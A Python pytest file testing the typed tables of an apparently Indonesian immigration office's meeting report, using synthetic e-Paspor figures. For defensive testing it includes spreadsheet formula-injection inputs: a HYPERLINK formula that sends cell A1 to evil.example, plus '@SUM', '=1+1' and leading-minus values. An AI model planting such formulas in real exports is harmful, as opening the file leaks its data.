"""The meeting report's typed tables, on a hand-built report holding the April–June 2024
e-Paspor figures (126, 186, 294). `sample_report()` is used by the workbook and CSV tests."""

from __future__ import annotations

from datetime import date, datetime

import pytest

from app.figures.activity_model import ActivityInfo
from app.figures.meeting.data import MeetingReport, OpenFinding
from app.figures.meeting.tables import ColumnKind, daily_table, key_figures, report_tables
from app.figures.statistics_model import (
    Bucket,
    Difference,
    Grain,
    Period,
    ServiceRow,
    Spread,
    Statistics,
)

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
PHONE = "+62 812 3456 7890"


def _bucket(start: date, apps: int | None, epaspor: int | None, **kw: object) -> Bucket:
    ordinary = None if apps is None or epaspor is None else apps - epaspor
    return Bucket(start=start, applications=apps, epaspor=epaspor, ordinary=ordinary, **kw)  # type: ignore[arg-type]


def sample_statistics(grain: Grain = Grain.MONTH) -> Statistics:
    months = [
        _bucket(date(2024, 4, 1), 1008, 126, walk_in=700, booked=308, wna_services=40,
                tickets=1500, wait=Spread(1400, 12.5, 31.0), service=Spread(1380, 6.0, 11.5),
                no_show_rate=0.04, sop_share=0.8123, growth=None, epaspor_growth=0.05,
                source="live"),
        _bucket(date(2024, 5, 1), 1100, 186, walk_in=760, booked=340, wna_services=None,
                tickets=1620, wait=Spread(1500, 14.0, 35.5), service=Spread(1490, 6.5, 12.0),
                no_show_rate=0.05, sop_share=0.79, growth=0.0913, epaspor_growth=60 / 126,
                source="live"),
        _bucket(date(2024, 6, 1), 990, 294, walk_in=None, booked=None, wna_services=52,
                tickets=None, growth=-0.1, epaspor_growth=108 / 186, source="import"),
    ]  # fmt: skip
    total = _bucket(date(2024, 4, 1), 3098, 606, walk_in=1460, booked=648, wna_services=92,
                    tickets=3120, wait=Spread(2900, 13.2, 33.0), service=Spread(2870, 6.2, 11.8),
                    no_show_rate=0.045, sop_share=0.8, growth=0.25, epaspor_growth=1.5,
                    source="live")  # fmt: skip
    return Statistics(
        office_code="KANIM-TEST",
        office_name="Kantor Imigrasi Kelas I TPI Contoh",
        period=Period.months((2024, 4), (2024, 6)),
        grain=grain,
        buckets=months,
        total=total,
        by_kind={"baru": 2000, "penggantian": 900, "hilang": 150, "rusak": 48, "perubahan_data": 0},
        by_product={"epaspor": 606, "biasa": 2492},
        by_channel={"walk_in": 1460, "booked": 648},
        by_sex={"L": 1600, "P": 1498},
        by_age_group={"0-16": 300, "17-25": 800, "26-40": 1200, "41-60": 650, "61+": 148},
        by_priority={"lansia": 90, "disabilitas": 10, "ibu_hamil": 12, "anak": 30, "normal": 2978},
        foreign_services={
            "itk_itas": 50,
            "itas_itap": 12,
            "itas_perpanjangan": 30,
            "perubahan_alamat": 0,
        },  # fmt: skip
        services=[
            ServiceRow(
                "A",
                "paspor",
                "Passport application",
                30,
                2000,
                1950,
                80,
                Spread(1950, 12.0, 30.0),
                Spread(1900, 6.0, 11.0),
                0.82,
                80 / 1950,
            ),
            ServiceRow(
                "B",
                "wna",
                "Foreign nationals' services",
                45,
                120,
                110,
                3,
                Spread(110, 20.0, 44.0),
                Spread(0),
                None,
                3 / 110,
            ),
        ],  # fmt: skip
        stage_backlog={"verifikasi": 12, "pencetakan": 5},
        differences=[Difference(2024, 5, "epaspor_applicants", 186, 180)],
    )


def sample_report(lang: str = "id") -> MeetingReport:
    activities = [
        ActivityInfo(1, "u1", "KANIM-TEST", date(2024, 4, 20), "radio", "Talkshow e-Paspor di RRI",
                     "RRI Pro 1", 5000, None, None, None),
        ActivityInfo(2, "u2", "KANIM-TEST", date(2024, 5, 15), "social_media", HOSTILE_TITLE,
                     PHONE, None, "-catatan dengan tanda minus", None, None),
        ActivityInfo(3, "u3", "KANIM-TEST", date(2024, 6, 8), "outreach",
                     "3 in 1 Si Mamat di Kecamatan Sukamaju", "@kanim_contoh", 320,
                     "Pelayanan paspor keliling bersama Disdukcapil dan kecamatan; "
                     "warga antusias, banyak yang baru pertama kali membuat paspor.", None, None),
    ]  # fmt: skip
    findings = [
        OpenFinding(date(2024, 7, 10), "Sosialisasi e-Paspor masih kurang", "Perbanyak publikasi",
                    "tinggi", "Seksi Lalintalkim", date(2024, 9, 30), "terbuka"),
        OpenFinding(date(2024, 7, 10), "@SUM(A1:A9) papan informasi", "=1+1", "rendah", "Umum",
                    None, "dalam_proses"),
    ]  # fmt: skip
    return MeetingReport(sample_statistics(), activities, findings,
                         datetime(2024, 7, 4, 9, 30), lang)  # fmt: skip


def _table(key: str, lang: str = "id"):
    return next(t for t in report_tables(sample_report(lang)) if t.key == key)


def test_monthly_table_holds_raw_values_in_order() -> None:
    t = _table("monthly")
    assert t.title == "Angka per bulan" or t.title  # translated when the catalogue has it
    assert [c.key for c in t.columns][:6] == [
        "start", "applications", "growth", "epaspor", "epaspor_share", "epaspor_growth",
    ]  # fmt: skip
    epaspor, growth = t.column("epaspor"), t.column("epaspor_growth")
    assert [r[0] for r in t.rows] == [date(2024, 4, 1), date(2024, 5, 1), date(2024, 6, 1)]
    assert [r[epaspor] for r in t.rows] == [126, 186, 294]
    assert round(t.rows[1][growth], 3) == 0.476 and round(t.rows[2][growth], 3) == 0.581
    assert t.rows[0][t.column("epaspor_share")] == pytest.approx(0.125)
    # Unknown stays unknown: June has no tickets, May no foreign-national figure.
    assert t.rows[2][t.column("tickets")] is None
    assert t.rows[1][t.column("wna_services")] is None
    assert t.rows[2][t.column("wait_median")] is None
    assert t.columns[0].kind is ColumnKind.MONTH
    assert t.columns[t.column("wait_p90")].kind is ColumnKind.MINUTES
    assert t.total is not None and t.total[t.column("epaspor")] == 606
    assert t.total[t.column("source")] is None


def test_every_table_is_there_with_well_formed_rows() -> None:
    tables = report_tables(sample_report())
    keys = [t.key for t in tables]
    assert keys == [
        "monthly", "by_kind", "by_product", "by_channel", "by_sex", "by_age_group",
        "by_priority", "foreign_services", "services", "stage_backlog", "differences",
        "activities", "open_findings",
    ]  # fmt: skip
    for t in tables:
        assert t.columns and all(len(r) == len(t.columns) for r in t.rows), t.key
        assert t.total is None or len(t.total) == len(t.columns)
        assert 0 < len(t.sheet) <= 31
    assert len({t.sheet.lower() for t in tables}) == len(tables)


def test_breakdowns_label_codes_and_give_shares_in_indonesian() -> None:
    sex = _table("by_sex")
    assert [r[0] for r in sex.rows] == ["Laki-laki", "Perempuan"]
    assert sex.rows[0][1] == 1600 and sex.rows[0][2] == pytest.approx(1600 / 3098)
    assert sex.total == ("Jumlah", 3098, 1.0)
    kind = _table("by_kind")
    assert kind.rows[0][0] != "baru" and kind.rows[-1][1] == 0
    assert _table("by_channel").rows[1][0] == "Antrean M-Paspor"
    assert _table("by_priority").rows[-1][0] == "Tanpa prioritas"
    assert _table("foreign_services").rows[0][1] == 50


def test_english_report_has_english_titles() -> None:
    t = _table("monthly", "en")
    assert t.columns[3].title == "e-Passport" and t.total is not None and t.total[0] == "Total"
    assert _table("by_sex", "en").rows[0][0] == "Male"


def test_activities_findings_and_differences_keep_user_text_raw() -> None:
    acts = _table("activities")
    assert acts.rows[1][2] == HOSTILE_TITLE and acts.rows[1][3] == PHONE  # writers neutralise
    assert acts.rows[0][0] == date(2024, 4, 20) and acts.rows[0][4] == 5000
    assert acts.rows[1][4] is None
    assert acts.total is not None and acts.total[4] == 5320
    findings = _table("open_findings")
    assert findings.rows[0][5] == date(2024, 9, 30) and findings.rows[1][5] is None
    assert findings.rows[0][3] == "Tinggi"
    diff = _table("differences")
    assert diff.rows == [(date(2024, 5, 1), "Pemohon e-Paspor", 186, 180, 6)]


def test_tables_reuse_for_a_daily_statistics_and_no_differences_table_without_any() -> None:
    s = sample_statistics(Grain.DAY)
    t = daily_table(s, "id")
    assert t.key == "daily" and t.columns[0].kind is ColumnKind.DATE
    assert t.columns[0].title == "Tanggal"
    report = sample_report()
    from dataclasses import replace

    quiet = replace(report, statistics=replace(report.statistics, differences=[],
                                               stage_backlog={}), activities=[])  # fmt: skip
    tables = {t.key: t for t in report_tables(quiet)}
    assert "differences" not in tables and "stage_backlog" not in tables
    assert tables["activities"].rows == [] and tables["activities"].total is None
    assert tables["activities"].empty


def test_key_figures() -> None:
    figures = {f.key: f for f in key_figures(sample_statistics())}
    assert figures["epaspor"].value == 606
    assert figures["epaspor_share"].value == pytest.approx(606 / 3098)
    assert figures["wait_p90"].kind is ColumnKind.MINUTES
